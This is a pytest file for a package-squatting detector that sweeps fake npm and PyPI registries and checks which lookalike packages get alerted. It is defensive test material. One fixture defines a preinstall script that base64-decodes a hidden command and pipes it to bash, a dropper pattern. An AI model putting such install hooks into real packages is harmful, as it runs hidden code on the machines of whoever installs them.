"""A nightly sweep over the fake registries judges packages on their first day by what their records say.

Two lookalikes of popular packages are published in one feed window, each a single release by a fresh
account: `lodahs` (npm) copies `lodash`'s description word for word and is alerted; `fastbi` (PyPI)
describes a purpose of its own and links its own repository, and is not. Two single typos off `regex`
(wide look-alikes): `reget` pastes a stock purpose unrelated to its name and is alerted; `regext` says what
its name says and is not. Two combosquats of `platform` on npm: `ing-platform` decodes a hidden command at
preinstall and pipes it to a shell (a dropper) and is alerted; `platform-icons` describes its own purpose and
runs nothing at install, and is not.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fakeregistry import FakeRegistry

from confuguard.classifier import Judge
from confuguard.engine import Engine
from confuguard.store import Store
from confuguard.sweep import Sweep, SweepSummary
from confuguard.types import Alert, Ecosystem

START = {Ecosystem.NPM: "107", Ecosystem.PYPI: "31000006"}


def _iso(d: datetime) -> str:
    return d.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def _packument(name: str, description: str, *, created: datetime, versions: list[str], maintainer: str,
               repository: str | None = None, scripts: dict[str, str] | None = None) -> dict:
    manifest: dict[str, object] = {"description": description, "main": "index.js", "license": "MIT"}
    if repository:
        manifest["repository"] = {"type": "git", "url": repository}
    if scripts:
        manifest["scripts"] = scripts
    return {"_id": name, "name": name, "description": description, "dist-tags": {"latest": versions[-1]},
            "versions": {v: {**manifest, "name": name, "version": v} for v in versions},
            "time": {"created": _iso(created), **{v: _iso(created) for v in versions}},
            "maintainers": [{"name": maintainer, "email": f"{maintainer}@example.invalid"}], **manifest}


def _project(name: str, summary: str, *, uploaded: datetime, versions: list[str], owner: str,
             source: str | None = None) -> dict:
    files = {v: [{"filename": f"{name}-{v}.tar.gz", "packagetype": "sdist", "size": 9000,
                  "upload_time_iso_8601": _iso(uploaded)},
                 {"filename": f"{name}-{v}-py3-none-any.whl", "packagetype": "bdist_wheel", "size": 9000,
                  "upload_time_iso_8601": _iso(uploaded)}] for v in versions}
    return {"info": {"name": name, "version": versions[-1], "summary": summary, "description": "",
                     "author": "", "author_email": "", "home_page": "",
                     "project_urls": {"Source": source} if source else None, "requires_dist": None, "yanked": False},
            "releases": files, "urls": files[versions[-1]], "last_serial": 1,
            "ownership": {"organization": None, "roles": [{"role": "Owner", "user": owner}]}}


def _sweep(fake: FakeRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
           registries: list[Ecosystem]) -> tuple[SweepSummary, dict[tuple[str, str], Alert]]:
    """One feed sweep of `registries` on the fake registry into a fresh store (the judge with its record
    lookups): its summary, and the alerts by (suspect, target)."""
    for k, v in fake.env().items():
        monkeypatch.setenv(k, v)
    with Store.open(tmp_path / "s.db") as store:
        engine = Engine(encoder=None, judge=Judge.default(store=store))
        summary = Sweep(store, engine).feeds(registries, start=START)
        assert not summary.failed, summary.to_json()
        return summary, {(a.suspect, a.target): a for a in store.alert_rows()}


def test_sweep_alerts_a_copied_description_and_clears_a_package_of_its_own(tmp_path, monkeypatch) -> None:
    now = datetime.now(UTC)
    old, fresh = now - timedelta(days=4000), now - timedelta(hours=2)
    with FakeRegistry() as fake:
        d = fake.data
        d.npm["lodash"] = _packument("lodash", "Lodash modular utilities.", created=old,
                                     versions=[f"4.17.{i}" for i in range(20)], maintainer="jdalton",
                                     repository="git+https://github.com/lodash/lodash.git")
        d.npm["lodahs"] = _packument("lodahs", "Lodash modular utilities.", created=fresh, versions=["1.0.0"],
                                     maintainer="newcomer1")
        d.pypi["fastai"] = _project("fastai", "fastai simplifies training fast and accurate neural nets using modern best practices",
                                    uploaded=old, versions=["2.7.0", "2.8.0"], owner="jph00",
                                    source="https://github.com/fastai/fastai")
        d.pypi["fastbi"] = _project("fastbi", "Build business intelligence dashboards from SQL queries in minutes",
                                    uploaded=fresh, versions=["0.1.0"], owner="newcomer2",
                                    source="https://github.com/newcomer2/fastbi")
        d.publish("npm", "lodahs")
        d.publish("pypi", "fastbi")
        summary, alerts = _sweep(fake, tmp_path, monkeypatch, [Ecosystem.NPM, Ecosystem.PYPI])
        assert any("/pypi/pypi/fastbi/json" in r for r in fake.requests)  # judged on its live record
    assert ("fastbi", "fastai") not in alerts
    assert ("lodahs", "lodash") in alerts
    assert "description copied from `lodash`" in " | ".join(alerts[("lodahs", "lodash")].reasons)
    by = {r.registry: r for r in summary.registries}
    assert by["pypi"].benign_suppressed >= 1  # fastbi resembles fastai, and was cleared


def test_sweep_alerts_a_stock_purpose_under_a_misspelt_name_and_clears_one_that_names_its_own(tmp_path, monkeypatch) -> None:
    """Two single typos off `regex` that the finger-slip rules leave out (wide look-alikes): `reget`, source
    only, pastes a purpose that has nothing to do with its name and is alerted; `regext`, with a wheel and a
    repository of its own, describes what its name says and is not."""
    now = datetime.now(UTC)
    old, fresh = now - timedelta(days=4000), now - timedelta(hours=2)
    with FakeRegistry() as fake:
        d = fake.data
        d.pypi["regex"] = _project("regex", "Alternative regular expression module, to replace re.", uploaded=old,
                                   versions=["2024.1.1", "2025.1.1"], owner="mrab",
                                   source="https://github.com/mrabarnett/mrab-regex")
        squat = _project("reget", "A library for creating a terminal user interface", uploaded=fresh,
                         versions=["6.82"], owner="newcomer3")
        squat["urls"] = squat["releases"]["6.82"] = squat["releases"]["6.82"][:1]  # the sdist only
        d.pypi["reget"] = squat
        d.pypi["regext"] = _project("regext", "Regex text helpers: named patterns for parsing log files",
                                    uploaded=fresh, versions=["0.1.0"], owner="newcomer4",
                                    source="https://github.com/newcomer4/regext")
        d.publish("pypi", "reget")
        d.publish("pypi", "regext")
        _, alerts = _sweep(fake, tmp_path, monkeypatch, [Ecosystem.PYPI])
    assert set(alerts) == {("reget", "regex")}
    reasons = " | ".join(alerts[("reget", "regex")].reasons)
    assert "one typo away from 'regex'" in reasons and "shares no word with its own name" in reasons


def test_sweep_alerts_an_install_script_that_runs_a_hidden_payload(tmp_path, monkeypatch) -> None:
    """`ing-platform` borrows another package's description and, at preinstall, decodes a base64 command and
    pipes it to bash: the dropper rule alerts it whatever its summary says. `platform-icons`, the same shape
    of name, says what it is and runs nothing at install."""
    now = datetime.now(UTC)
    old, fresh = now - timedelta(days=4000), now - timedelta(hours=2)
    hidden = "ej0wOyB4PSdpbmctcGxhdGZvcm0nOwpkPSJvb2JzLmZ1biI7CnM9Imhvc3RuYW1lPWBob3N0bmFtZWAi"
    with FakeRegistry() as fake:
        d = fake.data
        d.npm["platform"] = _packument("platform", "A platform detection library that works on nearly all JavaScript platforms.",
                                       created=old, versions=["1.3.5", "1.3.6"], maintainer="jdalton",
                                       repository="git+https://github.com/bestiejs/platform.js.git")
        d.npm["ing-platform"] = _packument(
            "ing-platform", "Minimalistic library to work with countries and timezones data.", created=fresh,
            versions=["1.0.0"], maintainer="newcomer5", repository="git+https://github.com/newcomer5/ing-platform.git",
            scripts={"preinstall": f'echo "{hidden}" | base64 -d | bash', "test": "exit 1"})
        d.npm["platform-icons"] = _packument(
            "platform-icons", "Platform icons for Windows, macOS and Linux as SVG sprites", created=fresh,
            versions=["1.0.0"], maintainer="newcomer6", repository="git+https://github.com/newcomer6/platform-icons.git")
        d.publish("npm", "ing-platform")
        d.publish("npm", "platform-icons")
        _, alerts = _sweep(fake, tmp_path, monkeypatch, [Ecosystem.NPM])
    assert set(alerts) == {("ing-platform", "platform")}
    assert "its install script decodes a hidden payload and runs it" in " | ".join(alerts[("ing-platform", "platform")].reasons)
